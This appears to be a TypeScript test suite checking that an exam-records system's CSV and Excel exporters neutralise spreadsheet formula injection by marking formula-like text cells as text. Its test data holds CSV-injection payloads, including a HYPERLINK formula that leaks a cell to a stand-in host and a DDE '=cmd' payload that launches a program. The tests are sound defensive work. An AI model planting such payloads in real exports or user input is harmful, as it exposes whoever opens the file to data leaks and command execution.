// Files made for a person to open in Excel or WPS never carry a live formula (CSV injection): every text
// cell that starts with = + - @, a tab or a CR gets the spreadsheet's text mark ', in every exporter —
// the seat list, training absences, statistics and item analysis, the certificates for the issuing office
// (.xlsx). Numbers stay numbers (a negative figure is not prefixed), ID numbers stay as they are, and a
// phone number "+86…" stays readable text.
import t from 'tap';
import ExcelJS from 'exceljs';
import { csvField, defuseText, parseCsv, toCsv } from '../../core/index.ts';
import { seatListCsv } from '../../exam/plans/seat-list.ts';
import { exportXlsx, type ExportRow } from '../../records/certificates/export.ts';
import type { StatisticsReply } from '../../records/protocol.ts';
import { login, PASSWORDS, testApp } from '../helpers.ts';

const EVIL = ['=HYPERLINK("http://x.example/?leak="&A1,"open")', '+SUM(1+1)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];

/** The cells of a CSV file as a spreadsheet program reads them (BOM dropped). */
const cellsOf = (csv: string) => parseCsv(csv.replace(/^\uFEFF/, ''), { relax_column_count: true });
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell);

t.test('the rule: text that starts like a formula is marked as text; numbers, ID numbers and dates are untouched', async (t) => {
  for (const s of EVIL) t.equal(defuseText(s), `'${s}`, JSON.stringify(s));
  t.equal(csvField(-3.5), '-3.5', 'a negative number stays a number');
  t.equal(csvField(0), '0');
  t.equal(csvField('44010619900101123X'), '44010619900101123X', 'an ID number is left as it is');
  t.equal(csvField('+86 138 0013 8000'), "'+86 138 0013 8000", 'a phone number becomes text, not a sum');
  t.equal(csvField('2026-03-10 08:00'), '2026-03-10 08:00');
  t.equal(csvField('张三'), '张三');
  t.equal(csvField('a,"b"'), '"a,""b"""', 'quoting as before');
  t.equal(csvField(null), '');
  t.equal(toCsv([['x', 1]]), '\uFEFFx,1\r\n', 'UTF-8 with a BOM, CRLF');
});

t.test('seat list CSV: a candidate name typed as a formula stays text', async (t) => {
  const csv = seatListCsv({
    site: 's',
    plan: 'p',
    sessionId: 'S1',
    room: 'R1',
    roomName: '一号考场',
    date: '2026-03-10',
    time: '09:00–10:30',
    exam: 'x',
    rows: EVIL.map((name, i) => ({ seat: `0${i + 1}`, ticketNo: `-00${i}`, name, idNumber: '440106********123X' })),
  });
  const rows = cellsOf(csv).slice(1);
  t.equal(rows.length, EVIL.length);
  for (const [i, r] of rows.entries()) {
    t.equal(r[2], `'${EVIL[i]}`, `name ${i} is marked as text`);
    t.equal(r[1], `'-00${i}`, 'a ticket number that starts with - too');
    t.equal(r[3], '440106********123X', 'the masked ID number is unchanged');
    t.notOk(r.some(live), `row ${i} has no live formula`);
  }
});

t.test('certificates .xlsx for the issuing office: formula-like text stays text, the score stays a number', async (t) => {
  const row: ExportRow = {
    name: EVIL[0]!,
    sex: '男',
    idNumber: '44010619900101123X',
    licenceNumber: 'T44010619900101123X',
    category: '特种作业',
    operationItem: '@op',
    industry: '冶金',
    firstIssued: '2026-03-10',
    validUntil: '2027-03-10',
    issuingOffice: '-广州市应急管理局',
    certificateNumber: 'C-0001',
    sessionDate: '2026-03-10',
    score: 88,
  } as ExportRow;
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await exportXlsx([row], { siteName: 's', createdAt: Date.now() })) as unknown as ArrayBuffer);
  const values = (wb.worksheets[0]!.getRow(2).values as unknown[]).slice(1);
  t.ok(values.includes(`'${EVIL[0]}`), 'the name is marked as text');
  t.ok(values.includes("'@op") && values.includes("'-广州市应急管理局"), 'every text column is');
  t.ok(values.includes('44010619900101123X') && values.includes('T44010619900101123X'), 'ID and licence numbers are unchanged');
  t.ok(values.includes(88), 'the score is a number');
  t.notOk(
    values.some((v) => typeof v === 'object' && v !== null && 'formula' in v),
    'no cell is a formula',
  );
  t.notOk(
    values.some((v) => typeof v === 'string' && live(v)),
    'no text cell starts like one',
  );
});

t.test('statistics and item-analysis CSV: an institution named like a formula stays text, negative figures stay numbers', async (t) => {
  const app = await testApp(t);
  const figures = {
    registered: 3,
    absent: 0,
    sat: 3,
    passed: 1,
    failed: 2,
    passRate: 0.333,
    absenceRate: 0,
    averageScore: -1.5,
    retakes: 0,
    retakesPassed: 0,
    firstAttemptPassRate: null,
  };
  const reply = {
    groupBy: 'institution',
    from: '2026-01-01',
    to: '2026-12-31',
    sessions: 1,
    notYetGraded: 0,
    groups: EVIL.map((label, i) => ({ key: `k${i}`, label: { zh: label, en: label }, session: null, figures })),
    total: figures,
  } as unknown as StatisticsReply;
  const rows = cellsOf(app.records.statistics.statisticsCsv(reply, 'zh')).slice(1, 1 + EVIL.length);
  for (const [i, r] of rows.entries()) {
    t.equal(r[0], `'${EVIL[i]}`, `group ${i} is marked as text`);
    t.equal(r[8], '-1.5', 'a negative average is written as a number');
  }
  const items = app.records.statistics.itemsCsv(
    {
      from: '2026-01-01',
      to: '2026-12-31',
      items: [
        {
          questionId: 'q1',
          externalId: '=1+1',
          type: 'single',
          knowledgePoint: '@kp',
          difficulty: 2,
          responses: 3,
          correct: 1,
          facility: 0.333,
          discrimination: -0.2,
        },
      ],
    } as never,
    'zh',
  );
  const item = cellsOf(items)[1]!;
  t.equal(item[1], "'=1+1", 'an external question id typed as a formula is text');
  t.equal(item[3], "'@kp", 'a knowledge point too');
  t.ok(item.includes('-0.2'), 'a negative discrimination stays a number');
});

/** A valid 18-digit ID number (GB 11643 check digit) from 17 digits. */
function idNumber(first17: string): string {
  const w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2];
  const sum = [...first17].reduce((a, d, i) => a + Number(d) * w[i]!, 0);
  return first17 + '10X98765432'[sum % 11]!;
}

t.test('training absences CSV: a class and institution named like formulas stay text', async (t) => {
  const app = await testApp(t);
  const admin = await login(app, 'admin', PASSWORDS.admin);
  const day = (d: number) => new Date(Date.now() + d * 86_400_000).toISOString().slice(0, 10);
  const created = await app.inject({
    method: 'POST',
    url: '/api/training/classes',
    headers: { cookie: admin },
    payload: { name: '=cmd|" /C calc"!A0', institution: ' =1+1', startsOn: day(-3), endsOn: day(-2), dailyHours: 6 },
  });
  t.equal(created.statusCode, 201, created.body);
  const classId = (created.json() as { id: string }).id;
  const members = await app.inject({
    method: 'POST',
    url: `/api/training/classes/${classId}/members?filename=members.csv`,
    headers: { cookie: admin, 'content-type': 'text/csv' },
    payload: `身份证号,姓名\r\n${idNumber('44010619900101123')},@张三\r\n`,
  });
  t.equal(members.statusCode, 200, members.body);
  const res = await app.inject({ method: 'GET', url: `/api/training/classes/${classId}/absences.csv`, headers: { cookie: admin } });
  t.equal(res.statusCode, 200);
  const rows = cellsOf(res.body).slice(1);
  t.equal(rows.length, 2, 'two days absent');
  for (const r of rows) {
    t.same(r.slice(0, 2), ['\'=cmd|" /C calc"!A0', "'=1+1"], 'class and institution are marked as text (stored trimmed)');
    t.equal(r[5], "'@张三", 'the member name too');
    t.match(r[6], /^440106\*+\d{3}[\dX]$/, 'the masked ID number is unchanged');
    t.notOk(r.some(live), 'no live formula');
  }
});
